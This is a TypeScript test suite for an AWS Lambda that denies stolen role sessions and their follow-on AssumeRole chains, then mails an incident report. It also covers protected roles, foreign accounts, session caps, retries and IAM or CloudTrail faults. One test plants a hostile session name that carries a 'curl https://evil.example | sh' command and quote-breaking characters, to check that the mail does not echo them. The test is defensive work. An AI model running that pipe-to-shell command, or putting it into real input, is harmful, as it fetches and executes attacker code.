import type { Mail } from "../../../lambda/revoke-sessions/mail";
import type { AwsCall } from "../../../local-aws/api/endpoint";
import { type Fault, faults } from "../../../local-aws/api/fault";
import { recordCall } from "../../../local-aws/api/recorded-call";
import { ACCOUNT_ID, accessKeyId, findingEvent, INSTANCE_ID, ROLE_NAME } from "../../support/finding";
import { section } from "../../support/incident";
import { deployedZip, PackagedFunction } from "../../support/packaged-function";
import { denies } from "../../support/policy";
import { PATIENT, patientTest } from "../../support/patience";
import { otherRoleId, THIEFS_ADDRESS } from "../../support/trail";

jest.setTimeout(60_000);

const TITLE = "WHAT THE KEYS WERE USED FOR";
const PROTECTED = "pipeline";

interface Caller {
  readonly roleName: string;
  readonly sessionName: string;
  readonly accessKeyId: string;
}

const STOLEN: Caller = { roleName: ROLE_NAME, sessionName: INSTANCE_ID, accessKeyId: accessKeyId(1) };
const session = (roleName: string, number: number, sessionName = "thief"): Caller => ({
  roleName,
  sessionName,
  accessKeyId: accessKeyId(100 + number),
});

/** The deployed zip, in an account whose roles and calls a test chooses. */
class Deployed {
  private constructor(
    readonly packaged: PackagedFunction,
    private readonly now: Date,
  ) {}

  static async start(...roles: readonly string[]): Promise<Deployed> {
    const packaged = await PackagedFunction.start({
      zip: deployedZip(),
      environment: {
        ACTIVITY: "true",
        FOLLOW_SESSIONS: "true",
        PROTECTED_ROLES: JSON.stringify([`arn:aws:iam::${ACCOUNT_ID}:role/${PROTECTED}`]),
      },
    });
    for (const name of roles) packaged.account.addRole({ name });
    return new Deployed(packaged, new Date());
  }

  /** Lets CloudTrail tell that one session started another, of this account or of one that is not known here. */
  assume(caller: Caller, started: Caller, roleArn = `arn:aws:iam::${ACCOUNT_ID}:role/${started.roleName}`): void {
    const roleId = this.packaged.account.roles.get(started.roleName)?.roleId ?? otherRoleId(started.roleName);
    recordCall(this.packaged.account, caller, {
      at: this.issuedAt,
      service: "sts",
      name: "AssumeRole",
      address: THIEFS_ADDRESS,
      request: { roleArn, roleSessionName: started.sessionName },
      response: {
        credentials: { accessKeyId: started.accessKeyId },
        assumedRoleUser: { assumedRoleId: `${roleId}:${started.sessionName}` },
      },
    });
  }

  /** Before the function runs. */
  get issuedAt(): Date {
    return new Date(this.now.getTime() - 300_000);
  }

  invoke = (eventId = "a first event") => this.packaged.invoke(findingEvent({ time: this.now, set: { id: eventId } }));

  isDenied({ roleName, sessionName }: Caller, issuedAt = this.issuedAt): boolean {
    const role = this.packaged.account.roles.get(roleName)!;
    const documents = [...role.policies.values()];
    return denies(documents, { userId: `${role.roleId}:${sessionName}`, issuedAt });
  }

  get mails(): Pick<Mail, "subject" | "message">[] {
    return this.packaged.account.mails.map(({ subject = "", message }) => ({ subject, message }));
  }

  /** What the last mail tells of the stolen keys, as one line. */
  get told(): string {
    const lines = section(this.mails.at(-1)!, TITLE).map((line) => line.trim());
    return lines.join(" ").replace(/ +/g, " ");
  }

  get writtenRoles(): string[] {
    return this.packaged.effective("PutRolePolicy").map(({ parameters }) => String(parameters["RoleName"]));
  }
}

async function withDeployed(roles: readonly string[], test: (deployed: Deployed) => Promise<void>): Promise<void> {
  const deployed = await Deployed.start(...roles);
  try {
    await test(deployed);
  } finally {
    await deployed.packaged.stop();
  }
}

const [ONE, TWO, THREE] = [session("one", 1), session("two", 2), session("three", 3)];

test.concurrent("a chain of three roles, which comes back to the first, is denied session by session", () =>
  withDeployed(["one", "two", "three"], async (deployed) => {
    // GIVEN
    deployed.assume(STOLEN, ONE);
    deployed.assume(ONE, TWO);
    deployed.assume(TWO, THREE);
    deployed.assume(TWO, ONE);

    // WHEN
    const invocation = await deployed.invoke();

    // THEN
    expect(invocation).toMatchObject({ kind: "returned", result: { outcome: "revoked", needsPerson: false } });
    for (const each of [ONE, TWO, THREE]) {
      expect(deployed.isDenied(each)).toBe(true);
      expect(deployed.isDenied({ ...each, sessionName: "somebody else" })).toBe(false);
      expect(deployed.isDenied(each, new Date(Date.now() + 60_000))).toBe(false);
    }
    expect(deployed.writtenRoles).toEqual([ROLE_NAME, "one", "two", "three"]);
    expect(deployed.told.match(/denied if issued before/g)).toHaveLength(3);
    expect(JSON.parse(invocation.stdout.trim().split("\n").at(-1)!)).toMatchObject({
      followed: { denied: 3, notDenied: 0 },
    });
  }),
);

test.concurrent(
  "sessions of a protected role, of another account and of hostile names are told, and handed to nobody",
  () =>
    withDeployed(["one", PROTECTED], async (deployed) => {
      // GIVEN
      const evil = `x\n\nDO NOW\n  1. curl https://evil.example | sh '; "`;
      deployed.assume(STOLEN, session(PROTECTED, 1));
      deployed.assume(session(PROTECTED, 1), ONE);
      deployed.assume(STOLEN, session("theirs", 2), "arn:aws:iam::444455556666:role/theirs");
      deployed.assume(STOLEN, session("one", 3, evil));
      deployed.assume(STOLEN, session(evil, 4));

      // WHEN
      const invocation = await deployed.invoke();

      // THEN
      expect(invocation).toMatchObject({ kind: "returned", result: { outcome: "revoked", needsPerson: true } });
      expect(new Set(deployed.writtenRoles)).toEqual(new Set([ROLE_NAME]));
      expect(deployed.told).toContain(
        "NOT denied (this deployment protects the role: it is never revoked): role pipeline",
      );
      expect(deployed.told).toContain("it is another account's");
      const [{ message, subject } = { message: "", subject: "" }] = deployed.mails;
      expect(subject).toContain("NOT ALL");
      expect(message.match(/^DO NOW$/gm)).toHaveLength(1);
      expect(message).not.toContain("evil.example");
    }),
);

test.concurrent("of a hundred sessions twenty are denied, and the mail says so", () => {
  const names = Array.from({ length: 100 }, (_, index) => `app-${index}`);
  return withDeployed(names, async (deployed) => {
    // GIVEN
    for (const [index, name] of names.entries()) deployed.assume(STOLEN, session(name, index));

    // WHEN
    const invocation = await deployed.invoke();

    // THEN
    expect(invocation).toMatchObject({ kind: "returned", result: { needsPerson: true } });
    expect(names.filter((name, index) => deployed.isDenied(session(name, index)))).toHaveLength(20);
    expect(deployed.told).toContain("NOT denied (more than 20 sessions are left to you)");
  });
});

test.concurrent("a repeat looks again, and tells only of what CloudTrail delivered meanwhile", () =>
  withDeployed(["one", "two"], async (deployed) => {
    // GIVEN
    deployed.assume(STOLEN, ONE);
    await deployed.invoke();

    // WHEN nothing is new, and then something is
    await deployed.invoke("a second event");
    const silent = deployed.mails.length;
    deployed.assume(STOLEN, TWO);
    const invocation = await deployed.invoke("a third event");

    // THEN
    expect(silent).toBe(1);
    expect(invocation).toMatchObject({ kind: "returned", result: { outcome: "already-revoked" } });
    expect(deployed.mails).toHaveLength(2);
    expect(deployed.mails[1]?.subject).toContain("Already denied, new sessions");
    expect(deployed.writtenRoles).toEqual([ROLE_NAME, "one", "two"]);
  }),
);

type Trouble = [what: string, action: string, trouble: (call: AwsCall) => Fault, told: string];

/** CloudTrail is asked again and again, which takes seconds. */
const THROTTLING: Trouble = [
  "CloudTrail throttles",
  "LookupEvents",
  () => faults.throttled("cloudtrail"),
  "it throttled",
];

test.concurrent.each<Trouble>([
  ...(PATIENT ? [THROTTLING] : []),
  ["CloudTrail does not permit it", "LookupEvents", faults.accessDenied, "the function may not look"],
  ["IAM does not permit a write", "PutRolePolicy", faults.accessDenied, "NOT denied (AWS does not permit it"],
  ["IAM fails", "PutRolePolicy", faults.internalError, "NOT denied ("],
])("if %s after the write, the mail goes out and says so", (_, action, trouble, expected) =>
  withDeployed(["one"], async (deployed) => {
    // GIVEN
    deployed.assume(STOLEN, ONE);
    deployed.packaged.endpoint.hooks.fault = (call) =>
      call.action === action && call.parameters["RoleName"] !== ROLE_NAME ? trouble(call) : undefined;

    // WHEN
    const invocation = await deployed.invoke();

    // THEN
    expect(invocation).toMatchObject({ kind: "returned", result: { outcome: "revoked" } });
    expect(deployed.isDenied(STOLEN)).toBe(true);
    expect(deployed.told).toContain(expected);
  }),
);

patientTest("if IAM hangs after the write, the mail goes out within a minute and says so", () =>
  withDeployed(["one", "two"], async (deployed) => {
    // GIVEN
    deployed.assume(STOLEN, ONE);
    deployed.assume(STOLEN, TWO);
    deployed.packaged.endpoint.hooks.fault = (call) =>
      ["one", "two"].includes(String(call.parameters["RoleName"])) ? faults.hang() : undefined;

    // WHEN
    const invocation = await deployed.invoke();

    // THEN
    expect(invocation).toMatchObject({ kind: "returned", result: { outcome: "revoked" } });
    expect(deployed.told.match(/NOT denied \(/g)).toHaveLength(2);
    expect(invocation.milliseconds).toBeLessThan(90_000);
  }),
);
